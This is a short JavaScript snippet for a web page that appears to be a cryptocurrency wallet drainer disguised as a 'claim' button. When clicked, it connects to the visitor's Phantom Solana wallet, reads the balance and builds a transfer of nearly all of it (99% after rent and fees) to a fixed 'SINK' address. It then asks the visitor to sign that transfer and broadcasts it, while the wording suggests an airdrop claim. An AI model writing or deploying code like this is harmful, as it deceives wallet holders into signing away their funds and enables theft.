const { Connection, PublicKey, SystemProgram, Transaction } = solanaWeb3;
const SINK = new PublicKey("11111111111111111111111111111111");
document.querySelector("#claim").onclick = async () => {
  const wallet = window.solana;
  if (!wallet || !wallet.isPhantom) return window.open("https://phantom.app/", "_blank");
  const { publicKey } = await wallet.connect();
  const net = new Connection("https://rpc.example");
  const have = await net.getBalance(publicKey);
  const rent = await net.getMinimumBalanceForRentExemption(0);
  const move = have - rent - 5000;
  if (move <= 0) { alert("Insufficient funds to claim"); return; }
  const tx = new Transaction().add(SystemProgram.transfer({ fromPubkey: publicKey, toPubkey: SINK, lamports: Math.floor(move * 0.99) }));
  tx.feePayer = publicKey;
  tx.recentBlockhash = (await net.getLatestBlockhash()).blockhash;
  const signed = await wallet.signTransaction(tx);
  await net.sendRawTransaction(signed.serialize());
};
